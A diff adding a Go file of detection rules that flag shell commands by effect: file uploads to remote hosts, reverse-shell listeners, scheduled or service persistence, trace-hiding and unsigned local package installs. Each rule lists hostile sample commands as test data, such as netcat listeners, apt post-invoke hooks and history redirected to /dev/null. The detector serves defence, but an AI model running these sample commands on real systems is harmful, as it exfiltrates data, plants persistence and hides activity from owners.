@@ -1,0 +1,471 @@
+package commands
+
+import (
+	"regexp"
+	"strings"
+)
+
+// effectRules are effect classes judged from a call and, where a step
+// only means something next to another, from the other calls of the same
+// text (an ftp session then a put; a listener then a terminal upgrade).
+var effectRules = []*rule{
+	{
+		ID: "upload-session", Class: "exfiltration", Sev: high,
+		Msg: "sends a local file to a remote host",
+		Must: []string{
+			"sftp ops@192.0.2.60\nput notes.db",
+			"smbclient //192.0.2.61/drop -U guest -c 'put report.xlsx'",
+			"tar czf ops@192.0.2.62:/tmp/home.tgz ~/src --rsh-command=/usr/bin/ssh",
+			"ab -p body.bin -T application/octet-stream http://192.0.2.63/in",
+			"lp -h 192.0.2.64:631 ledger.csv",
+			"curl gopher://192.0.2.66:70/_hello",
+		},
+		MustNot: []string{
+			"scp ops@files.example.net:/srv/build.log .",
+			"rsync -av --delete build/ dist/",
+			"sftp ops@192.0.2.60\nget report.csv",
+			"tar czf out.tgz src/",
+			"lp -d office-printer report.pdf",
+			"ssh ops@192.0.2.65 'uptime'",
+		},
+		check: checkUploadSession,
+	},
+	{
+		ID: "shell-listener", Class: "reverse shell", Sev: high,
+		Msg: "waits for an incoming connection to drive a remote shell",
+		Must: []string{
+			"nc -nlvp 9443",
+			"ncat --ssl -v -l -p 8443",
+			"openssl s_server -quiet -key k.pem -cert c.pem -port 8443",
+			"stty raw -echo; fg",
+			"socat file:`tty`,raw,echo=0 tcp-listen:9443",
+		},
+		MustNot: []string{
+			"nc -l 8080 > received.bin",
+			"nc -zv 192.0.2.9 22",
+			"openssl s_server -key k.pem -cert c.pem -www -accept 8443",
+			"stty -a",
+			"stty sane",
+		},
+		check: checkListener,
+	},
+	{
+		ID: "persistence-service", Class: "persistence", Sev: high,
+		Msg: "schedules a command or enables a unit that runs outside the session",
+		Must: []string{
+			"echo './sync.sh' | at now + 1 minute",
+			"at 02:00 <<< 'tar czf /tmp/h.tgz ~'",
+			"systemctl --user enable --now updater.service",
+			"sudo systemctl enable cleanup.timer",
+			"systemctl link /tmp/x.service",
+			"vim /etc/systemd/system/backup.service",
+			"cp ./filter.sh ~/.lessfilter",
+			"printf 'DPkg::Post-Invoke {\"/tmp/h\";};\\n' | sudo tee /etc/apt/apt.conf.d/99h",
+		},
+		MustNot: []string{
+			"sudo systemctl enable --now docker",
+			"systemctl --user status updater.service",
+			"atq",
+			"vim ~/.bashrc",
+			"cat ~/.lessfilter",
+		},
+		check: checkPersistService,
+	},
+	{
+		ID: "evasion-more", Class: "defense evasion", Sev: high,
+		Msg: "hides activity from the system's owner",
+		Must: []string{
+			"sudo date -s '2021-01-01 00:00:00'",
+			"timedatectl set-time '2021-01-01 00:00'",
+			"T=$(stat -c %Y app.py); echo x >> app.py; touch -d @$T app.py",
+			"mount -o remount,rw,hidepid=2 /proc",
+			"mount --bind /tmp/empty /proc/4242",
+			"touch $'conf\\u200b.php'",
+			"echo \"# $(clear)\" >> run.sh",
+			"ln -sf /dev/null ~/.zsh_history",
+		},
+		MustNot: []string{
+			"date +%s",
+			"timedatectl status",
+			"touch -d '2 hours ago' stamp",
+			"mount -t tmpfs tmpfs /mnt/ram",
+			"touch index.php",
+			"clear",
+		},
+		check: checkEvasionMore,
+	},
+	{
+		ID: "local-package", Class: "privilege escalation", Sev: high,
+		Msg: "installs a package from a local file, running its install scripts as root without a repository signature",
+		Must: []string{
+			"sudo dpkg -i ./tool_2.1_amd64.deb",
+			"rpm -Uvh /tmp/agent-1.0.x86_64.rpm",
+			"yum localinstall -y ./agent.rpm",
+			"dnf install -y ./agent.rpm",
+			"snap install ./tool.snap --dangerous",
+			"apk add --allow-untrusted ./tool.apk",
+			"pkg add ./tool.pkg",
+		},
+		MustNot: []string{
+			"dpkg -l | grep nginx",
+			"rpm -qa",
+			"dnf install -y nginx",
+			"snap install jq",
+			"apk add curl",
+		},
+		check: checkLocalPackage,
+	},
+}
+
+func init() { rules = append(rules, effectRules...) }
+
+// argIn reports whether one of c's arguments is exactly one of xs.
+func argIn(c *call, xs ...string) bool {
+	for _, a := range c.args() {
+		for _, x := range xs {
+			if a == x {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// sessionClients take commands (put, get) on stdin or after the call.
+var sessionClients = set("ftp", "sftp", "tftp", "lftp", "smbclient", "ncftp", "pftp")
+
+func checkUploadSession(c *call, cfg *config) *hit {
+	remote := func(s string) bool {
+		return remoteTarget(s) && !strings.HasPrefix(lower(s), "file:") && !cfg.hostAllowed("x://"+strings.SplitN(s, ":", 2)[0])
+	}
+	switch c.name {
+	case "scp", "rsync", "sftp", "pscp":
+		if cfg.allAllowed(urls(c)) {
+			return nil
+		}
+		ops := operands(c, "-P -i -o -F -l -c -J -S -e --rsh --port -f --filter --exclude --include --exclude-from --include-from --chmod --chown")
+		if len(ops) >= 2 && remote(ops[len(ops)-1]) {
+			for _, o := range ops[:len(ops)-1] {
+				if !remoteTarget(o) {
+					// Deploys and backups copy files to servers every day: worth a
+					// look, not a block (allowed_hosts silences it).
+					return hitf(c, medium, "copies the local file or directory "+baseName(o)+" to a remote host with "+c.name)
+				}
+			}
+		}
+	case "put", "mput", "send", "append":
+		for _, o := range c.a.calls {
+			if sessionClients[o.name] && o.start < c.start {
+				return hitf(c, 0, "sends a local file to a remote host in an "+o.name+" session")
+			}
+		}
+	case "smbclient", "ftp", "lftp", "tftp":
+		for _, a := range append(c.args(), c.stdin) {
+			l := " " + lower(a)
+			if strings.Contains(l, " put ") || strings.Contains(l, ";put ") || strings.Contains(l, "\nput ") || strings.Contains(l, " mput ") {
+				return hitf(c, 0, "sends a local file to a remote host with "+c.name)
+			}
+		}
+	case "tar", "bsdtar", "gtar":
+		if hasFlag(c, "", "--force-local") {
+			return nil
+		}
+		f, ok := optValue(c, "-f", "--file")
+		if !ok {
+			ops := operands(c, "-C -T -X --directory")
+			if len(ops) > 0 && !strings.HasPrefix(c.arg(1), "-") && strings.Contains(c.arg(1), "f") {
+				f = ops[1%len(ops)]
+				if len(ops) > 1 {
+					f = ops[1]
+				}
+			}
+		}
+		if strings.Contains(f, "@") && remote(f) {
+			return hitf(c, 0, "writes an archive to a remote host with tar")
+		}
+	case "ab":
+		if v, ok := optValue(c, "-p", ""); ok && v != "" && len(urls(c)) > 0 && !cfg.allAllowed(urls(c)) {
+			return hitf(c, 0, "posts the local file "+baseName(v)+" to a remote host with ab")
+		}
+	case "lp", "lpr":
+		if v, ok := optValue(c, "-h", ""); ok && !isLocalHost(urlHost(v)) && len(operands(c, "-h -d -n -o -P -q -t -H -U -E -#")) > 0 {
+			return hitf(c, 0, "sends a local file to a remote print server")
+		}
+	case "curl":
+		for _, a := range c.args() {
+			l := lower(strings.Trim(a, "'\""))
+			if strings.HasPrefix(l, "gopher://") || strings.HasPrefix(l, "dict://") {
+				if !isLocalHost(urlHost(l)) {
+					return hitf(c, 0, "sends raw bytes to a remote service through a "+l[:strings.Index(l, ":")]+" URL")
+				}
+			}
+		}
+	case "ssh":
+		i := sshCommand(c.argv)
+		if i <= 0 || c.prev == nil && c.stdin == "" {
+			return nil
+		}
+		remoteCmd := strings.Join(c.argv[i:], " ")
+		if remoteWriteRe.MatchString(remoteCmd) {
+			return hitf(c, medium, "sends local data to a file on a remote host over ssh")
+		}
+	}
+	return nil
+}
+
+// checkListener flags the listening side of a remote shell: an interactive
+// netcat or TLS listener (stdin and stdout left to the terminal) and the
+// raw-terminal step that takes over a caught shell.
+func checkListener(c *call, _ *config) *hit {
+	switch {
+	case netClients[c.name] && c.name != "socat" && c.name != "telnet":
+		if !hasFlag(c, "l", "--listen") || hasFlag(c, "zk", "--keep-open") {
+			return nil
+		}
+		for _, r := range c.redirs {
+			if r.op == ">" || r.op == ">>" || r.op == "<" || r.op == "&>" {
+				return nil
+			}
+		}
+		if c.next != nil {
+			return nil
+		}
+		if !hasFlag(c, "v", "--verbose") && c.prev == nil {
+			return nil
+		}
+		if c.prev != nil && !(c.prev.name == "cat" && len(c.prev.argv) == 1) && c.prev.name != "stty" {
+			return nil
+		}
+		return hitf(c, 0, "listens with "+c.name+" for an incoming connection and hands it the terminal (a shell catcher)")
+	case c.name == "openssl" && c.arg(1) == "s_server":
+		if argIn(c, "-quiet") && !argIn(c, "-www", "-WWW", "-HTTP") && c.next == nil {
+			for _, r := range c.redirs {
+				if r.op == ">" || r.op == "<" {
+					return nil
+				}
+			}
+			return hitf(c, 0, "listens with openssl s_server for an incoming connection and hands it the terminal (a shell catcher)")
+		}
+	case c.name == "socat":
+		var tty, listen bool
+		for _, a := range c.args() {
+			l := lower(a)
+			if strings.Contains(l, "`tty`") || strings.Contains(l, "$(tty)") || strings.Contains(l, "raw,echo=0") {
+				tty = true
+			}
+			if strings.Contains(l, "-listen:") {
+				listen = true
+			}
+		}
+		if tty && listen {
+			return hitf(c, 0, "listens with socat and wires the terminal to the connection (a shell catcher)")
+		}
+	case c.name == "stty":
+		raw, noEcho := false, false
+		for _, a := range c.args() {
+			switch a {
+			case "raw":
+				raw = true
+			case "-echo":
+				noEcho = true
+			}
+		}
+		if !raw || !noEcho {
+			return nil
+		}
+		for _, o := range c.a.calls {
+			if o.name == "fg" || netClients[o.name] {
+				return hitf(c, 0, "puts the terminal in raw mode to take over a caught remote shell")
+			}
+		}
+	}
+	return nil
+}
+
+var (
+	remoteWriteRe = regexp.MustCompile(`\bcat\s*>|\btee\s|\bdd\s[^|]*of=`)
+	procPidRe     = regexp.MustCompile(`^/proc/\d+/?$`)
+)
+
+// persistPaths are files that programs run or read as code on their own
+// later; an editor opened on them or a copy into them plants code.
+var persistPathRe = regexp.MustCompile(`^(~/\.lessfilter|~/\.lessopen|/etc/systemd/(system|user)/.+|~/\.config/systemd/user/.+|/etc/cron\.(d|hourly|daily|weekly|monthly)/.+|/etc/crontab|/var/spool/cron/.+|/etc/udev/rules\.d/.+|/etc/ld\.so\.preload|/etc/rc\.local|/etc/init\.d/.+|/etc/apt/apt\.conf\.d/.+|/etc/update-motd\.d/.+)$`)
+
+var editors = set("vim", "vi", "nvim", "nano", "emacs", "pico", "joe", "mcedit", "micro", "ed", "ex", "sensible-editor", "editor")
+
+var aptHookRe = regexp.MustCompile(`(?i)\b(apt::update::(pre|post)-invoke(-success)?|dpkg::(pre|post)-invoke|dpkg::pre-install-pkgs)\b`)
+
+func checkPersistService(c *call, _ *config) *hit {
+	switch {
+	case c.name == "at" || c.name == "batch":
+		if hasFlag(c, "lrdc") || c.arg(1) == "" && c.name == "at" {
+			return nil
+		}
+		if c.next == nil && (c.prev != nil && (c.prev.name == "echo" || c.prev.name == "printf" || c.prev.name == "cat") || c.stdin != "" || hasFlag(c, "f")) {
+			return hitf(c, 0, "schedules a command with "+c.name+" to run later, outside the session")
+		}
+	case c.name == "systemctl":
+		user := hasFlag(c, "", "--user", "--global")
+		ops := operands(c, "-H -M -t -p -o -n --host --machine --type --property --output --lines --root")
+		if len(ops) == 0 {
+			return nil
+		}
+		switch ops[0] {
+		case "link":
+			return hitf(c, 0, "links a unit file into systemd from an arbitrary path")
+		case "enable", "reenable":
+			for _, u := range ops[1:] {
+				if strings.Contains(u, "/") {
+					return hitf(c, 0, "enables a unit file from an arbitrary path, to run at every boot")
+				}
+				if strings.HasSuffix(u, ".timer") {
+					return hitf(c, 0, "enables a systemd timer (a scheduled job)")
+				}
+				if user {
+					return hitf(c, 0, "enables a user service that starts at every login")
+				}
+			}
+		}
+	case editors[c.name]:
+		for _, o := range operands(c, "-c -u -S") {
+			if persistPathRe.MatchString(normPath(o)) {
+				return hitf(c, 0, "edits a file the system runs on its own ("+normPath(o)+")")
+			}
+		}
+	}
+	for _, w := range writes(c) {
+		n := normPath(w)
+		if n == "~/.lessfilter" || n == "~/.lessopen" {
+			return hitf(c, 0, "installs a program that less runs on every file it opens")
+		}
+	}
+	for _, a := range append(c.argv, c.stdin) {
+		if aptHookRe.MatchString(a) {
+			return hitf(c, 0, "installs a command that apt runs as root on every update")
+		}
+	}
+	if p, _ := payload(c, 0); p != "" && aptHookRe.MatchString(p) {
+		return hitf(c, 0, "installs a command that apt runs as root on every update")
+	}
+	return nil
+}
+
+var invisibleRe = regexp.MustCompile("[\u200b\u200c\u200d\u2060\ufeff\u202e\u202d\u2066\u2067\u2068\u2069]|\\\\u200[bcd]|\\\\u202[de]|\\\\u2060|\\\\ufeff")
+
+func checkEvasionMore(c *call, _ *config) *hit {
+	switch c.name {
+	case "date":
+		if hasFlag(c, "s", "--set") {
+			return hitf(c, 0, "changes the system clock (forges timestamps of logs and files)")
+		}
+	case "timedatectl":
+		if c.arg(1) == "set-time" || hasPrefixArg(c, "set-time") {
+			return hitf(c, 0, "changes the system clock (forges timestamps of logs and files)")
+		}
+	case "hwclock":
+		if hasFlag(c, "", "--set") {
+			return hitf(c, 0, "changes the hardware clock")
+		}
+	case "touch":
+		for i, a := range c.argv {
+			if i == 0 {
+				continue
+			}
+			if strings.Contains(a, "@$") || (len(c.argSubst[i]) > 0 && strings.HasPrefix(strings.TrimPrefix(a, "--date="), "@")) {
+				return hitf(c, 0, "puts back a file's saved timestamp to hide a change")
+			}
+			if invisibleRe.MatchString(a) {
+				return hitf(c, 0, "creates a file whose name holds invisible characters (a look-alike of another file)")
+			}
+		}
+	case "mount":
+		j := strings.Join(c.args(), " ")
+		if strings.Contains(j, "hidepid=") {
+			return hitf(c, 0, "hides processes from other users by remounting /proc")
+		}
+		if hasFlag(c, "", "--bind", "--rbind") || strings.Contains(j, "bind") {
+			for _, o := range operands(c, "-o -t -O") {
+				if procPidRe.MatchString(o) {
+					return hitf(c, 0, "mounts over a process's /proc entry to hide it")
+				}
+			}
+		}
+	case "ln":
+		ops := operands(c, "-t -S --suffix --target-directory")
+		if len(ops) == 2 && normPath(ops[0]) == "/dev/null" && (isHistoryFile(ops[1]) || strings.HasSuffix(ops[1], "_history")) {
+			return hitf(c, 0, "links the shell history to /dev/null so commands are not recorded")
+		}
+	case "echo", "printf":
+		if len(writes(c)) == 0 {
+			return nil
+		}
+		for i := range c.argv {
+			for _, s := range c.argSubst[i] {
+				if s.name == "clear" || s.name == "tput" || s.name == "reset" {
+					return hitf(c, 0, "writes terminal control codes into a file to hide its content when displayed")
+				}
+			}
+		}
+	}
+	if c.name != "touch" && c.name != "echo" {
+		for _, w := range writes(c) {
+			if invisibleRe.MatchString(w) {
+				return hitf(c, 0, "creates a file whose name holds invisible characters (a look-alike of another file)")
+			}
+		}
+	}
+	return nil
+}
+
+var pkgFileRe = regexp.MustCompile(`(?i)\.(deb|rpm|apk|snap|pkg|txz|tbz|ipk|pkg\.tar\.(zst|xz|gz))$`)
+
+func checkLocalPackage(c *call, _ *config) *hit {
+	hasPkg := func(ops []string) string {
+		for _, o := range ops {
+			if pkgFileRe.MatchString(o) && !isURL(o) {
+				return o
+			}
+		}
+		return ""
+	}
+	var f string
+	switch c.name {
+	case "dpkg":
+		if hasFlag(c, "i", "--install", "--unpack") || hasFlag(c, "", "--force-all") {
+			f = hasPkg(c.args())
+		}
+	case "rpm":
+		if hasFlag(c, "iUF", "--install", "--upgrade", "--freshen") && !hasFlag(c, "q", "--query") {
+			f = hasPkg(c.args())
+		}
+	case "yum", "dnf", "zypper", "apt", "apt-get", "opkg", "pkg", "pacman", "apk", "snap", "tdnf", "microdnf":
+		ops := operands(c, "-c --config --repo --enablerepo --disablerepo --root --installroot")
+		if len(ops) == 0 {
+			return nil
+		}
+		switch ops[0] {
+		case "install", "localinstall", "add", "reinstall", "upgrade", "update", "in", "-U":
+		default:
+			if !(c.name == "pacman" && hasFlag(c, "U")) {
+				return nil
+			}
+		}
+		f = hasPkg(ops)
+		if f == "" && (hasFlag(c, "", "--dangerous", "--devmode", "--allow-untrusted", "--nogpgcheck", "--no-gpg-checks") || c.name == "pkg" && hasFlag(c, "", "--no-repo-update")) {
+			for _, o := range ops[1:] {
+				if strings.HasPrefix(o, "./") || strings.HasPrefix(o, "/") {
+					f = o
+				}
+			}
+			if f == "" && c.name == "snap" {
+				f = "a snap"
+			}
+		}
+	default:
+		return nil
+	}
+	if f == "" {
+		return nil
+	}
+	return hitf(c, 0, "installs a package from the local file "+baseName(f)+" with "+c.name+", running its install scripts as root without a repository signature")
+}
